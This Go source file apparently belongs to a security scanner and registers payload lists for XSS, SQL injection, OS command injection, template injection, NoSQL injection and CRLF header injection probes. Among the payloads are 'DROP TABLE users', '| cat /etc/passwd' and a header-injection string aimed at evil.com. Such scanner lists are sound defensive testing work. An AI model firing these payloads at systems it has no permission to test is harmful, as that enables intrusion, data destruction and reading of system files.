package battery

// Category of attack probes a security_test run can select.
type Category string

const (
	CategoryXSS          Category = "xss"
	CategorySQLi         Category = "sqli"
	CategoryCmdInjection Category = "cmd_injection"
	CategorySSTI         Category = "ssti"
	CategoryNoSQL        Category = "nosql"
	CategoryCRLF         Category = "crlf"
)

// Descriptor is the fixed record describing one attack category:
// payload list plus presentation fields. Populated at startup, read-only
// afterwards.
type Descriptor struct {
	Category    Category
	Name        string
	Description string
	Severity    string
	Payloads    []string
}

var registry = map[Category]Descriptor{
	CategoryXSS: {
		Category:    CategoryXSS,
		Name:        "XSS / HTML Injection",
		Description: "Reflected cross-site scripting probes",
		Severity:    "high",
		Payloads: []string{
			`<script>alert(1)</script>`,
			`<img src=x onerror=alert(1)>`,
			`<svg onload=alert(1)>`,
			`<iframe src='javascript:alert(1)'></iframe>`,
			`javascript:alert(document.cookie)`,
			`<div onmouseover=alert(1)>`,
		},
	},
	CategorySQLi: {
		Category:    CategorySQLi,
		Name:        "SQL Injection",
		Description: "Classic SQL injection probes",
		Severity:    "critical",
		Payloads: []string{
			`' OR '1'='1`,
			`1; DROP TABLE users;--`,
			`UNION SELECT username,password FROM users`,
			`' AND 1=1--`,
			`admin'--`,
			`1' OR '1'='1' /*`,
		},
	},
	CategoryCmdInjection: {
		Category:    CategoryCmdInjection,
		Name:        "Command Injection",
		Description: "OS command injection probes",
		Severity:    "critical",
		Payloads: []string{
			`; ls -la`,
			`&& whoami`,
			`| cat /etc/passwd`,
			"`id`",
			`$(whoami)`,
		},
	},
	CategorySSTI: {
		Category:    CategorySSTI,
		Name:        "Server-Side Template Injection",
		Description: "Template engine evaluation probes",
		Severity:    "high",
		Payloads: []string{
			`{{7*7}}`,
			`${7*7}`,
			`#{7*7}`,
			`<%= 7*7 %>`,
			`{%25 set x = 7*7 %25}`,
		},
	},
	CategoryNoSQL: {
		Category:    CategoryNoSQL,
		Name:        "NoSQL Injection",
		Description: "MongoDB operator injection probes",
		Severity:    "high",
		Payloads: []string{
			`{"$where": "this.password == 'x'"}`,
			`{"$regex": "^admin"}`,
		},
	},
	CategoryCRLF: {
		Category:    CategoryCRLF,
		Name:        "CRLF Injection",
		Description: "Header injection via CR/LF sequences",
		Severity:    "medium",
		Payloads: []string{
			"http://evil.com\r\nSet-Cookie: malicious=1",
		},
	},
}

// Lookup returns the descriptor for c.
func Lookup(c Category) (Descriptor, bool) {
	d, ok := registry[c]
	return d, ok
}

// Known reports whether c is a registered category.
func Known(c Category) bool {
	_, ok := registry[c]
	return ok
}

// Categories lists all registered category identifiers.
func Categories() []Category {
	out := make([]Category, 0, len(registry))
	for c := range registry {
		out = append(out, c)
	}
	return out
}
